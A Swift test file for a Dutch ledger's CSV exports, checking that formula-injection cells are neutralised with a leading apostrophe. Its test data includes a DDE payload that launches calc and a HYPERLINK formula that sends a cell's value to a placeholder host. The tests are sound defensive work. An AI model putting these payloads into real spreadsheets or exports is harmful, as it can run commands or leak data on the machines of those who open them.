import Foundation
@testable import PasjesCore
import PasjesMoney
import Testing

/// Issue 19, finding 5: names, product names and counter ids starting with `=`, `+`, `-` or `@`
/// went unchanged into the CSV files, and Excel ran `=CMD|…` or `=HYPERLINK(…)`.
@Suite struct CSVFormulaTests {
    /// The usual spreadsheet-formula payloads.
    static let payloads = ["=CMD|' /C calc'!A0", "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", "+1+1", "@SUM(1)", "-2+3"]

    /// Cells a spreadsheet would run as a formula: a text starting with `=`, `+`, `-`, `@`, a tab
    /// or a CR. A plain number (`-0,05`) is a number, not a formula.
    static func isFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return false }
        return cell.wholeMatch(of: /-?[0-9]+(,[0-9]+)?/) == nil
    }

    /// The cells of a `;`-separated file with `"` quoting, BOM and CRLF.
    static func cells(_ text: String) -> [[String]] {
        var rows: [[String]] = [[]]
        var cell = ""
        var quoted = false
        var scalars = Array(text.drop { $0 == "\u{FEFF}" }.unicodeScalars)[...]
        while let scalar = scalars.popFirst() {
            switch (scalar, quoted) {
            case ("\"", true) where scalars.first == "\"": cell.unicodeScalars.append(scalars.removeFirst())
            case ("\"", _): quoted.toggle()
            case (";", false): rows[rows.count - 1].append(cell); cell = ""
            case ("\r", false) where scalars.first == "\n":
                scalars.removeFirst()
                rows[rows.count - 1].append(cell)
                cell = ""
                rows.append([])
            default: cell.unicodeScalars.append(scalar)
            }
        }
        return rows.filter { !$0.isEmpty }
    }

    @Test func formulaCellsAreNeutralisedInEveryCSV() throws {
        let t = try TestLedger()
        try t.seedCatalogue()
        // A counter id from before the id rule, as a migrated ledger holds it (the memoriaal's cost centre).
        _ = try t.ledger.execute(CounterCreate(counter: Counter(id: "=cmd|'/c calc'!a0", name: "@SUM(1)",
                                                                categories: [.facilitair])))
        for (index, payload) in Self.payloads.enumerated() {
            _ = try t.ledger.createProduct(Product(code: "F\(index)", name: payload, price: Amount(100), category: .facilitair,
                                                   attributable: true, influenceable: true))
            try t.client("10\(index)", uid: "04A22B1\(index)", amount: 5_000)
            _ = try t.ledger.updateClient(number: "10\(index)", ClientChange(name: payload))
            try t.charge([("F\(index)", 2)], uid: "04A22B1\(index)", counter: index == 0 ? "=cmd|'/c calc'!a0" : "restaurant")
        }
        let sale = try t.charge([("KOF", 1)], uid: "04A22B10")
        _ = try t.ledger.reverse(saleID: sale.saleID, operator: TestLedger.admin, reason: "dubbel", idempotencyKey: "r")
        let month = Month(year: 2026, month: 11)
        for kind in [MonthExportKind.sales, .clients, .counters, .memoriaal] {
            let rows = Self.cells(try t.ledger.monthExport(month, kind: kind))
            let formulas = rows.flatMap { $0 }.filter(Self.isFormula)
            #expect(formulas.isEmpty, "\(kind): formula cells \(formulas)")
            let all = Set(rows.flatMap { $0 })
            let expected = kind == .counters || kind == .memoriaal ? ["=cmd|'/c calc'!a0"] : Self.payloads
            for payload in expected {
                #expect(all.contains("'" + payload), "\(kind): \(payload) kept as text with a leading '")
            }
        }
        // Negative amounts stay numbers; only text is neutralised.
        #expect(DutchCSV.field("-0,05") == "-0,05" && DutchCSV.field("-1234,50") == "-1234,50" && DutchCSV.field("-15") == "-15")
        #expect(DutchCSV.field("\t=1") == "'\t=1" && DutchCSV.field("\r=1") == "\"'\r=1\"" && DutchCSV.field("-") == "'-")
    }
}
